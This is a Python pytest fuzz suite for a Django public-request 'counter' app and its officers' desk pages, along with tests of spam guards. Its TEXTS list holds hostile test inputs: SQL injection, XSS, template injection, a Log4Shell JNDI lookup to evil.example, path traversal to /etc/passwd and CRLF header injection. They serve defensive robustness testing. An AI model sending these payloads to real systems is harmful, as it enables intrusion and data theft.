"""Whatever is sent to the doors of the counter, each answers in order; programs are kept from filling it."""

from __future__ import annotations

import random
from contextlib import suppress
from datetime import timedelta
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from tests.apps.accounts.people import FINANCE, officer, signed_in, unit
from tests.clocks import let_pass

from ayan.apps.accounts.models import Grant
from ayan.apps.accounts.roles import Role
from ayan.apps.counter import filing, filing_guard, rules
from ayan.apps.counter.limits import FEWEST_SECONDS, MOST_REPEATS
from ayan.apps.counter.models import Case
from ayan.wiring.city import City

pytestmark = pytest.mark.django_db

TEXTS = (
    "", " ", "\0", "a\0b", "\u202e\u2066\u2069\u200f", "\ud800".encode("utf-8", "replace").decode(), "’; DROP TABLE counter_case; --",
    "' OR 1=1 --", "%' OR '1'='1", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{ 7*7 }}{% load %}",
    "${jndi:ldap://evil.example}", "../../../etc/passwd", "۱۲۳۴۵۶۷۸۹۰" * 20, "آ" * 6000, "x" * 70_000, "\n" * 3000, "\r\n\r\nSet-Cookie: a=b",
    "[[", "]]", "[[a]] [[", "𝟎𝟗𝟏𝟐𝟏𝟐𝟑𝟒𝟓𝟔𝟕", "👩‍👩‍👧‍👦" * 40, "ZWNJ\u200c\u200c\u200c", "-1", "1e309", "NaN", "null", "undefined", "[]", "{}", "true",
    "row:contracts/1", "row:../..", "value:a:b:c", "unit:", "case:R-1403-00001", "finding:x", "a" * 20 + "@" * 50, "09121234567",
)  # fmt: skip
DOORS = (
    "/counter",
    "/counter/track",
    "/counter/new",
    "/counter/receipt",
    "/counter/mine/R-1403-00001/do",
    "/counter/mine/R-1403-00001",
)


def thrown(chance: random.Random) -> tuple[str, str, dict[str, Any], dict[str, str]]:
    """One thing that somebody sends: to which door, how, and from where."""
    kind = chance.choice([*rules.kinds().sound.values()])
    door = chance.choice([f"/counter/new/{kind.code}"] * 6 + list(DOORS))
    names = [f"f-{field.code}" for field in kind.fields]
    more = ["_typed", "_do", "_move", "_drop", "_form", "_about", "_column", "_anonymous", "_appeal", "_since", "website", "code", "number",
            "q", "kind", "unit", "stage", "late", "after", "about", "text", "finding", "step"]  # fmt: skip
    chosen = chance.sample(names + more, chance.randint(0, min(12, len(names))))
    sent: dict[str, Any] = {name: chance.choice(TEXTS) for name in chosen}
    if chance.random() < 0.6:
        sent |= {"_typed": "1", "_do": chance.choice(["send", "keep", "edit", "discard", "served", "x"])}
    if chance.random() < 0.1:
        sent["f-files"] = SimpleUploadedFile(chance.choice(["a.pdf", "\0", "../x", "a" * 300]), b"%PDF-" + bytes(20))
    if chance.random() < 0.1:
        sent = {name: [value, value] for name, value in sent.items()}
    address = f"10.{chance.randrange(256)}.{chance.randrange(256)}.{chance.randrange(256)}"
    return door, chance.choice(["post"] * 5 + ["get", "put", "delete"]), sent, {"REMOTE_ADDR": address}


def throw(count: int, seed: int) -> None:
    chance = random.Random(seed)
    browser = Client(raise_request_exception=False)
    for number in range(count):
        door, how, sent, where = thrown(chance)
        language = chance.choice(["", "/en"])
        files = [name for name, value in sent.items() if isinstance(value, SimpleUploadedFile)]
        if how in ("post", "get"):
            answer = getattr(browser, how)(language + door, sent if how == "post" or not files else {}, **where)
        else:
            answer = getattr(browser, how)(language + door, b"\xff\xfe{", content_type="application/json", **where)
        assert answer.status_code < 500, (
            seed,
            number,
            door,
            how,
            {name: str(value)[:60] for name, value in sent.items()},
        )
        assert b"<script>alert" not in answer.content
        assert b"<img src=x" not in answer.content


def test_a_few_hundred_hostile_forms_meet_no_fault(town: City) -> None:
    throw(250, seed=11)


@pytest.mark.soak
def test_ten_thousand_hostile_forms_meet_no_fault(town: City) -> None:
    throw(10_000, seed=random.randrange(10**9))


STEPS = (
    "take",
    "hand-over",
    "ask",
    "note",
    "draft",
    "answer",
    "part",
    "refuse",
    "refer",
    "point",
    "join",
    "extend",
    "bill",
    "issue",
    "fly",
    "answer:done",
)


def throw_at_desk(count: int, seed: int) -> None:
    """What an officer’s browser, or somebody who has taken it over, may send to each page of the desk."""
    chance = random.Random(seed)
    unit(FINANCE)
    officer("reader", Role.APPROVER)
    who = officer("handler", Role.REQUESTS)
    Grant.objects.create(user=who, role=Role.APPROVER, unit=None, dataset="")
    browser = signed_in(who, Client(raise_request_exception=False))
    kinds = [kind.code for kind in rules.kinds().sound.values() if kind.filed_by == "anybody"]
    said = {
        "summary": "یک چیز (ساختگی)",
        "text": "متن",
        "place": "یاس",
        "what": "lamp",
        "whom": "mayor",
        "name": "نامی",
        "service": "پروانه",
        "code": "1-2-3-4-0-0-0",
        "use": "dwelling",
    }
    cases = [
        filing.file(filing.Filing(kind=kind, said=_taken(kind, said), key=filing.new_key())).case for kind in kinds
    ]
    names = ["choice", "text", "private", "ground", "reason", "unit", "officer", "reader", "case", "day", "order", "proposes",
             "evidence", "fee", "number", "seen", "aid", "block", "words", "cases", "consent", "channel", "about", "key", "as", "title", "act", "hide"]  # fmt: skip
    for number in range(count):
        case = chance.choice(cases)
        places = [f"case/{case.number}"] * 6 + [f"check/{case.number}"] * 2
        door = "/desk/counter/" + chance.choice([*places, "late", "new?kind=access", "receipt", "sentences/", ""])
        sent: dict[str, Any] = {name: chance.choice(TEXTS) for name in chance.sample(names, chance.randint(0, 12))}
        if chance.random() < 0.7:
            last = case.entries.order_by("-number").values_list("number", flat=True)[0]
            sent |= {"choice": chance.choice(STEPS), "seen": str(last), "order": "simple"}
        if chance.random() < 0.5:
            sent |= {
                "unit": FINANCE,
                "ground": "article-14",
                "case": chance.choice(cases).number,
                "evidence": "/data/works",
            }
        how = chance.choice(["post"] * 5 + ["get"])
        answer = getattr(browser, how)(chance.choice(["", "/en"]) + door, sent)
        assert answer.status_code < 500, (seed, number, door, how, {name: text[:60] for name, text in sent.items()})
        assert b"<script>alert" not in answer.content
        assert b"<img src=x" not in answer.content


def _taken(kind: str, said: dict[str, str]) -> dict[str, str]:
    codes = {field.code for field in rules.kinds().sound[kind].fields}
    return {code: text for code, text in said.items() if code in codes}


def test_hostile_forms_of_officers_meet_no_fault(town: City) -> None:
    throw_at_desk(30, seed=7)


@pytest.mark.soak
def test_thousands_of_hostile_forms_of_officers_meet_no_fault(town: City) -> None:
    throw_at_desk(3_000, seed=random.randrange(10**9))


@pytest.mark.parametrize("text", [text for text in TEXTS if len(text) < 100])
def test_the_list_and_its_feed_take_any_question(town: City, text: str) -> None:
    for name in ("q", "kind", "unit", "stage", "after", "about"):
        for door in ("/counter", "/counter/cases.atom"):
            assert Client().get(door, {name: text}).status_code == 200


def test_the_same_form_again_makes_no_second_case(town: City) -> None:
    said = {"summary": "قراردادهای نورپردازی (ساختگی)"}
    key = filing.new_key()
    made = {filing.file(filing.Filing(kind="access", said=said, key=key)).case.pk for _ in range(20)}
    assert len(made) == Case.objects.count() == 1


# --- programs ---------------------------------------------------------------------------------------------------------

LINKS = {"text": " ".join(f"https://spam{number}.example" for number in range(9))}


def test_a_field_that_nobody_sees_stays_empty(town: City) -> None:
    with pytest.raises(filing_guard.FilingTrapped):
        filing_guard.check({filing_guard.TRAP: "x"}, {"summary": "درخواست"})
    filing_guard.check({}, {"summary": "درخواست"})


def test_many_links_at_once_are_looked_at_again_and_then_taken(town: City) -> None:
    sent = {filing_guard.STAMP: filing_guard.stamp()}
    for early in (sent, {}, {filing_guard.STAMP: "forged:x"}):
        with pytest.raises(filing_guard.FilingTooQuick):
            filing_guard.check(early, LINKS)
    let_pass(town, timedelta(seconds=FEWEST_SECONDS + 1))
    filing_guard.check(sent, LINKS)


def test_the_same_words_are_taken_a_few_times_however_they_are_spelt(town: City) -> None:
    spellings = ("آسفالت كوچهٔ یاس خراب است", "اسفالت کوچه یاس  خراب است", "آسفالت کوچۀ ياس خراب است\n")
    taken = 0
    for number in range(MOST_REPEATS + 3):
        with suppress(filing_guard.FilingRepeated):
            filing_guard.check({}, {"text": spellings[number % len(spellings)]})
            taken += 1
    assert taken == MOST_REPEATS
    filing_guard.check({}, {"text": "آسفالت کوچهٔ نرگس خراب است"})
